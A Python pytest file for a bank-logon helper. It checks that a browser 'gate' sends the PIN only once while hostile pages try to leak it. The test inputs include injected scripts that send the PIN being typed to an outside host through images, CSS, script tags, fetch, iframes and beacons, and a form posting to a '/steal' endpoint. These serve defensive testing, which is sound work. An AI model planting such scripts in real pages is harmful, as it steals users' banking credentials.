"""What the gate lets out while the PIN is on its way, with the real engine and pages that try."""

from __future__ import annotations

import threading
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from support.attended import Person, Play
from support.plays import play
from support.scripted_bank import LOGON_PAGE, PIN, Answer, Page, Pages, ScriptedBank, pin_page
from support.systems import not_under_wine

from certhelper.logon.browser.page import BankPage

pytestmark = not_under_wine("WebEngine never loads a page there")

TOP = "利用者トップページ"
ONCE = [("logon", "POST", "/pin", f"p={PIN}")]
LIMIT_S = 20


def sent(bank: ScriptedBank) -> list[tuple[str, str, str, str]]:
    """Every request that carried the PIN or a part of it."""
    return [(seen.site, seen.method, seen.path, seen.body + seen.query) for seen in bank.pins]


@pytest.mark.parametrize(
    "by",
    [
        "new Image().src='{front}/i?p='+this.value",
        "if(this.value.length==6)new Image().src='{front}/i?p='+this.value",
        "document.body.style.background='url({front}/i?p='+this.value+')'",
        (
            "var s=document.createElement('script');s.src='{front}/i?p='+this.value;"
            "document.body.append(s)"
        ),
        "fetch('{front}/i?p='+this.value,{mode:'no-cors'})",
        "var f=document.createElement('iframe');f.src='/i?p='+this.value;document.body.append(f)",
    ],
    ids=["image", "whole", "css", "script", "fetch", "frame"],
)
def test_what_a_page_fetches_carries_nothing_of_the_pin_while_it_is_typed(
    tmp_path: Path, by: str
) -> None:
    """Not an octet by GET; the log-on itself goes on."""
    field = f'<input type=password name=p oninput="{by}">'
    with ScriptedBank(tmp_path, {"GET logon/pin": pin_page(field=field)}) as bank:
        outcome = bank.log_on()
        assert outcome.status == 0
        assert sent(bank) == ONCE


def submitting(script: str) -> str:
    return pin_page(form=f'method=post action=/pin onsubmit="{script}"')


@pytest.mark.parametrize(
    "page",
    [
        submitting("navigator.sendBeacon('/log','x')"),
        submitting("fetch('/log')"),
        submitting("new Image().src='/log'"),
        submitting("document.querySelector('iframe').src='/log'") + "<iframe></iframe>",
        pin_page(
            more="<script>addEventListener('pagehide',()=>navigator.sendBeacon('/log','x'))</script>"
        ),
        pin_page(
            more="<script>setInterval(()=>fetch('/log',{method:'POST',body:'x'}),100)</script>"
        ),
    ],
    ids=["beacon", "fetch", "image", "frame", "pagehide", "heartbeat"],
)
def test_what_a_page_sends_beside_its_form_does_not_end_the_log_on(
    tmp_path: Path, page: str
) -> None:
    """It is refused without a word: the bank has the PIN, and nobody is told otherwise."""
    pages: Pages = {"GET logon/pin": page, "GET logon/log": "x", "POST logon/log": "x"}
    with ScriptedBank(tmp_path, pages) as bank:
        outcome = bank.log_on()
        assert (outcome.status, outcome.stages[-2:]) == (0, ["pin-submitted", "top-page"])
        assert sent(bank) == ONCE


def released(answer: Answer) -> tuple[Page, Page]:
    """A page that comes when another has been asked for, and that other."""
    event = threading.Event()

    def held() -> Answer:
        event.wait(LIMIT_S)
        return answer

    def release() -> str:
        event.set()
        return "x"

    return held, release


def longer_than(seconds: float) -> Callable[[], bool]:
    """For what must not happen when a time of the program's own has passed."""
    end = time.monotonic() + seconds
    return lambda: time.monotonic() > end


def waits_for_a_late_answer(person: Person) -> Play:
    yield from person.stage("failed")
    typed = yield from person.script("document.forms[0].p.value")
    yield longer_than(3)  # more than what the gate gives a page that was given up
    person.start_script("fetch('/release')")
    yield from person.stage("top-page")
    return [typed, [report.code for report in person.reports if report.code]]


@pytest.mark.parametrize("location", ["/next", "{front}/next"])
def test_an_answer_after_the_limit_does_not_post_the_pin_again(
    tmp_path: Path, location: str
) -> None:
    """「再送はしていません」 stays true: the field is empty, and a late 307 is followed by GET."""
    late, release = released(Answer(status=307, location=location))
    pages: Pages = {
        "POST logon/pin": late,
        "GET logon/release": release,
        "POST logon/next": TOP,
        "GET logon/next": TOP,
        "POST front/next": TOP,
        "GET front/next": TOP,
    }
    with ScriptedBank(tmp_path, pages) as bank:
        typed, codes = play(
            bank.bank,
            bank.database,
            bank.sha256,
            waits_for_a_late_answer,
            pin=PIN,
            load_limit_ms=2500,
        )
        assert typed == ""
        assert codes == ["no-answer-after-pin"]
        assert sent(bank) == ONCE


def lets_the_page_send_once_more(person: Person) -> Play:
    yield from person.stage("failed")
    before = len(person.reports)
    person.start_script("setInterval(() => document.forms[0].submit(), 50)")
    yield lambda: len(person.reports) > before
    yield longer_than(1)
    return [report.code for report in person.reports if report.code]


@pytest.mark.parametrize(
    ("answer", "code"),
    [
        (None, "connection-lost-after-pin"),
        (Answer(status=204), "no-page-after-pin"),
        (Answer("x", headers=(("Content-Disposition", "attachment"),)), "no-page-after-pin"),
    ],
    ids=["lost", "no content", "download"],
)
def test_a_page_that_has_sent_the_pin_sends_nothing_more(
    tmp_path: Path, answer: Answer | None, code: str
) -> None:
    """It still stands, for no other came: its script's next tries are stopped, and told once."""
    with ScriptedBank(tmp_path, {"POST logon/pin": answer}) as bank:
        codes = play(
            bank.bank,
            bank.database,
            bank.sha256,
            lets_the_page_send_once_more,
            pin=PIN,
            load_limit_ms=2500,
        )
        assert codes == [code, "form-stopped-after-pin"]
        assert sent(bank) == ONCE


def works_in_another_tab(person: Person) -> Play:
    yield from person.stage("pin-page")
    person.start_script(f"open('/tab'); document.forms[0].p.value = '{PIN}'")
    views = person.worker.session.views
    yield lambda: len(views) == 2
    person.worker.session.views[0].page().runJavaScript("document.forms[0].submit()", 0)
    yield from person.stage("pin-submitted")
    tab = views[1]
    while "着きました" not in str((yield from person.script("document.body.innerText", view=tab))):
        yield from person.script("document.forms[0]?.submit()", view=tab)
    return [report.code for report in person.reports if report.code]


@pytest.mark.parametrize(
    "answer",
    [Answer(status=204), Answer("x", headers=(("Content-Disposition", "attachment"),))],
    ids=["no content", "download"],
)
def test_an_answer_without_a_page_ends_the_rule_for_other_tabs(
    tmp_path: Path, answer: Answer
) -> None:
    """Before, every form of every tab was refused from then on."""
    pages: Pages = {
        "POST logon/pin": answer,
        "GET logon/tab": "<form method=post action=/work></form>",
        "POST logon/work": "着きました",
    }
    with ScriptedBank(tmp_path, pages, None, entry="page") as bank:
        play(bank.bank, bank.database, bank.sha256, works_in_another_tab)
        assert sent(bank) == ONCE


def logs_on_in_the_tab_of_the_notices(person: Person) -> Play:
    yield from person.stage("top-page")
    person.worker.session.read_notices()
    yield from person.shows("CIBMU201")
    person.start_script("document.getElementById('bad').click()")
    yield from person.shows("CIBMU209")
    person.start_script(f"document.forms[0].p.value = '{PIN}'; document.forms[0].submit()")
    yield lambda: "読むためのもの" in person.window.banner.words
    return [report.code for report in person.reports if report.code]


def test_the_tab_of_the_notices_sends_no_form(tmp_path: Path) -> None:
    """Nobody judges its pages: one with the marker and another target was sent the PIN before."""
    pages: Pages = {
        "GET front/biznet": LOGON_PAGE + "<a id=bad href='{logon}/other' target=_blank>x</a>",
        "GET logon/other": pin_page(form="method=post action={front}/steal"),
        "POST front/steal": "x",
    }
    with ScriptedBank(tmp_path, pages) as bank:
        told = play(
            bank.bank, bank.database, bank.sha256, logs_on_in_the_tab_of_the_notices, pin=PIN
        )
        assert told == []
        assert sent(bank) == ONCE


def posts_a_form_and_asks(person: Person) -> Play:
    yield from person.stage("top-page")
    page = person.view.page()
    assert isinstance(page, BankPage)
    loaded: list[int] = []
    page.loaded.connect(loaded.append)
    person.start_script("location = '/form'")
    yield lambda: loaded
    yield from person.text()  # the session has looked at the page before this answers
    person.start_script("document.forms[0].submit()")
    yield from person.shows("受け付けました")
    return page.gate.repeats.may_ask(person.view.url().toString())


@pytest.mark.parametrize(("kind", "may_ask"), [("password", False), ("text", True)])
def test_a_form_with_a_password_is_not_offered_to_be_sent_again(
    tmp_path: Path, kind: str, may_ask: bool
) -> None:
    """After the top page, too: what the page showed when it was loaded decides."""
    pages: Pages = {
        "GET logon/form": f"<form method=post action=/work><input type={kind} name=a></form>",
        "POST logon/work": "受け付けました",
    }
    with ScriptedBank(tmp_path, pages) as bank:
        asked = play(bank.bank, bank.database, bank.sha256, posts_a_form_and_asks, pin=PIN)
        assert asked is may_ask


def reads_the_page_that_swallowed(person: Person) -> Play:
    yield from person.stage("failed")
    typed = yield from person.script("document.forms[0].p.value")
    person.start_script("kept ? (document.forms[0].p.value = kept) : 0; document.forms[0].submit()")
    yield longer_than(3)
    stages = [report.stage.value for report in person.reports]
    return [typed, stages, [report.code for report in person.reports if report.code]]


@pytest.mark.parametrize(
    "page",
    [
        submitting("kept = this.p.value; return false"),
        pin_page(field="<input type=password name=p><input name=q required>"),
    ],
    ids=["swallowed", "required"],
)
def test_a_page_that_swallows_the_form_has_sent_nothing_and_holds_nothing(
    tmp_path: Path, page: str
) -> None:
    """It is told so, and it stays so: what the page has kept does not leave later either."""
    page += "<script>var kept = ''</script>"
    with ScriptedBank(tmp_path, {"GET logon/pin": page}) as bank:
        typed, stages, codes = play(
            bank.bank, bank.database, bank.sha256, reads_the_page_that_swallowed, pin=PIN
        )
        assert typed == ""
        assert codes[0] == "pin-not-sent"
        assert "pin-submitted" not in stages
        assert bank.pins == []
